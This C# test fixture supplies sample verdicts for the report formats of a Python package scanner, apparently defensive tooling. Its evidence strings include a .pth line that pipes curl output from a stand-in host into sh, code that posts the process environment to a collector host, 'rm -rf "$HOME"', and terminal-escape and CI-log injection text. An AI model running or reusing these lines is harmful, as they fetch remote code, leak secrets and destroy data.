using System.Collections.Immutable;
using Assay.Engine;
using Assay.Engine.Artifacts;
using Assay.Engine.Findings;
using Assay.Engine.Verdicts;
using Assay.Packaging.Distributions;
using Assay.Packaging.Names;
using Assay.Packaging.Versions;
using Assay.Reports;

namespace Assay.Tests.Reports;

/// <summary>Verdicts that every report format has to write; what each makes of them stands in <c>expected/SAMPLE.FORMAT</c>.</summary>
internal static class SampleVerdicts
{
    private const string Policy = "feedfacefeedfacefeedfacefeedfacefeedfacefeedfacefeedfacefeedface";

    public static ImmutableSortedDictionary<string, ImmutableArray<AssayedFile>> All { get; } = new Dictionary<string, ImmutableArray<AssayedFile>>
    {
        ["clean"] = [Clean("good-1.0-py3-none-any.whl")],
        ["several"] = [Clean("good-1.0-py3-none-any.whl"), Hostile, Held, Missing, Clean("also-2.0-py3-none-any.whl")],
        ["hostile"] = [Hostile],
        ["behaviour"] = [Behaviour],
        ["text"] = [Payloads],
        ["tree"] = [Tree],
        ["waived"] = [Waived],
        ["error"] = [Missing],
        ["nothing"] = [],
    }.ToImmutableSortedDictionary(StringComparer.Ordinal);

    public static ReportStyle Style(bool several, bool color = false, int? width = null) =>
        new(color, width, new DateTimeOffset(2027, 1, 2, 3, 4, 5, TimeSpan.Zero), several, "9.9.9", "0123456789ab");

    /// <summary>What hostile packages put into names, messages and lines.</summary>
    public const string HostileText =
        "\e[2J\e]0;owned\a::error file=x::pwned ##[error]x ##vso[task.complete]x \u202Egnp.exe\u202C \uD800 \r\n::warning::x\u2028</script><b>&\"'`|\u200B\u009B31m";

    private static AssayedFile Clean(string name) => new(
        name, Inspect(name, 'a'),
        Judge(name, 'a', Ruling.Allow, new Reason(null, Unread, Ruling.Allow, "weight", null)), 0.25, null);

    private static AssayedFile Hostile => new(
        "dist/evil-1.0-py3-none-any.whl", Inspect("evil-1.0-py3-none-any.whl", 'b'),
        Judge(
            "evil==1.0", 'b', Ruling.Block,
            new Reason(
                Find("sample-startup", Severity.Critical, CodeContext.Startup, MemberPlace.Of("evil.pth", 3, 13), "a line of a .pth file runs code", [new("line", "import os;  os.system('curl https://payload.example.invalid | sh')")]),
                null, Ruling.Block, "table", null),
            new Reason(
                Find("sample-startup", Severity.Critical, CodeContext.Startup, MemberPlace.Of("evil.pth", 4), "a line of a .pth file runs code", [new("line", "import sys")]),
                null, Ruling.Block, "table", null),
            new Reason(
                Find("sample-record", Severity.Medium, CodeContext.None, new MemberPlace(["evil-1.0.dist-info/RECORD"]), "RECORD does not list evil.pth", [new("declared", "sha256=abc"), new("actual", "sha256=def")], "evil.zip opened as an archive"),
                null, Ruling.Warn, "[[rule]] sample-record, /etc/assay/assay.toml:7", null),
            new Reason(null, Unread, Ruling.Allow, "weight", null),
            new Reason(Find("sample-note", Severity.Info, CodeContext.None, MemberPlace.Whole, "no consequence", []), null, Ruling.Allow, "table", null)),
        0.5, null, new Pin(ProjectName.Parse("evil"), "1.0"));

    // A finding in a text that is decoded twice, behind three calls, far to the right of a long line.
    private static AssayedFile Behaviour => new(
        "thief-1.0-py3-none-any.whl", Inspect("thief-1.0-py3-none-any.whl", '9'),
        Judge(
            "thief==1.0", '9', Ruling.Block,
            new Reason(
                Find(
                    "sample-theft", Severity.Critical, CodeContext.Import,
                    new MemberPlace(["thief/_core.py"], Line: 4, Column: 1_206) { Layers = ["line 7: exec of base64.b64decode", "line 2: exec of zlib.decompress"] },
                    "Sends the environment to https://collector.example.invalid/{…} when the package is imported",
                    [
                        new("line", $"x = 1{new string(' ', 1_200)}urlopen('https://collector.example.invalid/' + name, data=str(dict(environ)).encode())"),
                        new("target", "https://collector.example.invalid/{…}"),
                        Evidence.OfLayer(2, "line 2: exec of zlib.decompress", "# 日本\nfrom os import environ\nfrom urllib.request import urlopen\n\nx = 1\n\tname = \"a\"\nmore\nand more\nno more", 4),
                        Evidence.OfLayer(1, "line 7: exec of base64.b64decode", $"import zlib\nexec(zlib.decompress(b'{new string('x', 300)}'))", 2),
                    ],
                    "the package is imported: thief/__init__.py", "imports thief._core (thief/__init__.py:3)", "calls start (thief/_core.py:9)",
                    "line 7: exec of base64.b64decode", "line 2: exec of zlib.decompress"),
                null, Ruling.Block, "table", null)),
        0.5, null, new Pin(ProjectName.Parse("thief"), "1.0"));

    private static AssayedFile Held => new(
        "half-1.0.tar.gz", Inspect("half-1.0.tar.gz", 'c', DistributionKind.Sdist),
        Judge(
            "half-1.0.tar.gz", 'c', Ruling.Hold,
            new Reason(null, Gap.Of(GapKind.ArchiveUnreadable, new MemberPlace([], Offset: 4096), "the archive breaks off", "end of file"), Ruling.Hold, "unknown", null),
            new Reason(
                Find("sample-young", Severity.Low, CodeContext.None, new ListingPlace("https://index.example/simple", "half", "half-1.0.tar.gz"), "uploaded 3 hours ago", []),
                null, Ruling.Hold, "time", new DateTimeOffset(2027, 1, 5, 0, 0, 0, TimeSpan.Zero))),
        1, null);

    private static AssayedFile Payloads => new(
        $"dist/{HostileText}.whl", Inspect(HostileText, 'd'),
        Judge(
            HostileText, 'd', Ruling.Block,
            new Reason(
                Find("sample-text", Severity.High, CodeContext.Import, MemberPlace.Of($"pkg/{HostileText}", 1, 2), HostileText, [new("line", HostileText), new("other", HostileText)], HostileText),
                null, Ruling.Block, HostileText, null),
            new Reason(null, Gap.Of(GapKind.MemberUnreadable, MemberPlace.Of(HostileText), HostileText), Ruling.Hold, "unknown", null),
            new Reason(null, Gap.Of(GapKind.NativeCode, MemberPlace.Of(HostileText), HostileText), Ruling.Allow, "weight", null)),
        0, null);

    private static AssayedFile Tree => new(
        "src/my project", Inspect("my project", 'e', DistributionKind.Tree),
        Judge(
            "my project", 'e', Ruling.Warn,
            new Reason(
                Find("sample-script", Severity.Low, CodeContext.Main, MemberPlace.Of("tools/run me.sh", 2, 1), "a shell script", [new("line", "rm -rf \"$HOME\"")]),
                null, Ruling.Warn, "table", null)),
        0, null);

    private static AssayedFile Waived => new(
        "cov-7.0-py3-none-any.whl", Inspect("cov-7.0-py3-none-any.whl", 'f'),
        Judge(
            "cov==7.0", 'f', Ruling.Allow,
            new Reason(
                Find("sample-startup", Severity.High, CodeContext.Startup, MemberPlace.Of("cov.pth", 1), "a line of a .pth file runs code", [new("line", "import cov")]),
                null, Ruling.Allow, "[[waiver]] /home/u/assay.toml:12 until 2027-06-30, security@acme.example: measures subprocesses", null,
                new Waiver("sample-startup", ProjectName.Parse("cov"), ">=7", null, "measures subprocesses", "security@acme.example", new DateOnly(2027, 6, 30), "/home/u/assay.toml:12"))),
        0, null, new Pin(ProjectName.Parse("cov"), "7.0"));

    private static AssayedFile Missing => new("gone.whl", null, null, null, "not found: there is no file gone.whl");

    private static Gap Unread => Gap.Of(GapKind.PythonNotRead, MemberPlace.Whole, "3 files of Python are not read by this build");

    private static Finding Find(
        string rule, Severity severity, CodeContext context, Place place, string message, ImmutableArray<Evidence> evidence, params ImmutableArray<string> trail) =>
        new(rule, severity, Confidence.High, Audience.Everyone, context, place, message, trail, evidence);

    private static Inspection Inspect(string name, char digest, DistributionKind kind = DistributionKind.Wheel) => new(
        name, new string(digest, 64), 12_345, kind, 7,
        new MetadataFacts("x.dist-info/METADATA", new string('0', 64), "2.1", "Good_Name", "1.0", null, [], [], [], []), null, [], []);

    private static Verdict Judge(string subject, char digest, Ruling ruling, params ImmutableArray<Reason> reasons) => new(
        subject, new string(digest, 64), ruling, reasons, null,
        ruling == Ruling.Hold && reasons.All(static reason => reason.Until is not null || reason.Ruling < Ruling.Hold) ? reasons.Max(static reason => reason.Until) : null, null, Policy);
}
